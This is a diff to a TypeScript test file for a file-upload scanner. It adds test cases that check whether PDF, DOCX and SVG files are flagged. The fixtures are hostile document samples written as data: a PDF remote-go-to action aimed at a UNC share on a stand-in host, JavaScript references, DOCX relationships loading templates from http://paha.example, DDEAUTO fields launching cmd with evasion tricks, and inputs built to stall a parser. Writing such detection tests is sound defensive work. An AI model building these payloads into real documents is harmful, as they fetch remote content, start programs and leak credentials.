@@ -94,6 +94,7 @@ describe('a document', () => {
     ['with a file in it', 'a.pdf', pdfOf('<< /Type /Filespec /EF << /F 4 0 R >> >>'), 'pdf-embedded'],
     ['with a packed list of files', 'a.pdf', pdfOf(inside('<< /EmbeddedFiles 4 0 R >>')), 'pdf-embedded'],
     ['that starts a program', 'a.pdf', pdfOf('<< /S /Launch /F (cmd.exe) >>'), 'pdf-launch'],
+    ['that opens another', 'a.pdf', pdfOf('<< /S /GoToR /F (\\\\paha.example\\x) >>'), 'pdf-launch'],
     ['that is locked', 'a.pdf', pdfOf('<< /Encrypt 7 0 R >>'), 'pdf-encrypted'],
     [
       'whose objects are packed in another way',
@@ -101,6 +102,7 @@ describe('a document', () => {
       pdfOf('<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n39>\nendstream'),
       'pdf-unreadable',
     ],
+    ['with a short name and a number', 'a.pdf', pdfOf('<< /JS 12 0 R >>'), 'pdf-script'],
     ['that is cut off', 'a.pdf', pdfOf().subarray(0, 60), 'broken'],
     ['that goes on after its end', 'a.pdf', join(pdfOf(), '<script>alert(1)</script>'), 'broken'],
     ['after a page', 'a.pdf', join('<html><script>alert(1)</script>', pdfOf()), 'html'],
@@ -155,7 +157,49 @@ describe('a text document', () => {
       ),
       'outside',
     ],
+    [
+      'whose pattern hides behind another value',
+      'a.docx',
+      rels(
+        `<Relationship Id="a>b" Type="${relations}/attachedTemplate" TargetMode="External" ä=" TargetMode='Internal'" Target="http://paha.example/x.dotm"/>`,
+      ),
+      'outside',
+    ],
+    [
+      'whose pattern has a prefix of its own',
+      'a.docx',
+      rels(
+        `<ä:Relationship xmlns:ä="x" Id="a" Type="${relations}/attachedTemplate" TargetMode="External" Target="http://paha.example/x.dotm"/>`,
+      ),
+      'outside',
+    ],
     ['that starts a program', 'a.docx', field(' DD', 'EAUTO cmd '), 'outside'],
+    ['that starts one in small letters', 'a.docx', field(' ddeauto cmd '), 'outside'],
+    ['that starts one in numbers', 'a.docx', field(' DDE&#65;UTO cmd '), 'outside'],
+    [
+      'that starts one after another field',
+      'a.docx',
+      field('PAGE</w:instrText><w:fldChar/><w:instrText>LINK a'),
+      'outside',
+    ],
+    ['with a comment in a field', 'a.docx', field('DDE<!-- -->AUTO cmd'), 'broken'],
+    [
+      'with a field of another prefix',
+      'a.docx',
+      docxOf({ 'word/document.xml': '<x:document><x:instrText>DDEAUTO cmd</x:instrText></x:document>' }),
+      'outside',
+    ],
+    ...['WORD/header1.xml', 'other/header1.xml'].map(
+      (name): Case => [
+        `with a field in ${name}`,
+        'a.docx',
+        docxOf({
+          [name]: '<w:hdr><w:instrText>INCLUDEPICTURE "http://paha.example/x.png"</w:instrText></w:hdr>',
+        }),
+        'outside',
+      ],
+    ),
+    ['with two lists', 'a.docx', docxOf({ '[content_types].xml': typesOf('x') }), 'not-office'],
     ['with a program inside', 'a.docx', docxOf({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
     ['with a page inside', 'a.docx', docxOf({ 'word/afchunk.mht': 'x' }), 'embedded'],
     [
@@ -247,6 +291,18 @@ describe('lines', () => {
     ['in other letters', 'a.svg', new Uint8Array(Buffer.from(`\uFEFF<svg/>`, 'utf16le')), 'broken'],
     ['that are a page', 'a.svg', utf8('<html><body onload="alert(1)"></html>'), 'svg-foreign'],
   ])('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem))
+})
+
+/** Each would take longer than anyone waits, did the time grow with the square of the size. */
+describe('a file made to be read for ever', () => {
+  const cases: Case[] = [
+    ['of comments', 'a.svg', utf8(`${'<!---->'.repeat(290)}x`), 'broken'],
+    ['of kinds', 'a.svg', utf8(`${'<!DOCTYPE svg'.repeat(150)}x`), 'broken'],
+    ['of a number', 'a.pdf', pdfOf(`/JS ${'1'.repeat(1_000_000)}`), 'pdf'],
+    ['of names', 'a.pdf', pdfOf('/JS%'.repeat(200_000)), 'pdf-script'],
+    ['of fields', 'a.docx', docxOf({ 'word/document.xml': '<w:instrText '.repeat(300_000) }), 'broken'],
+  ]
+  test.each(cases)('%s', (_, name, bytes, problem) => expect(said(name, bytes)).toBe(problem), 3_000)
 })
 
 describe('text', () => {
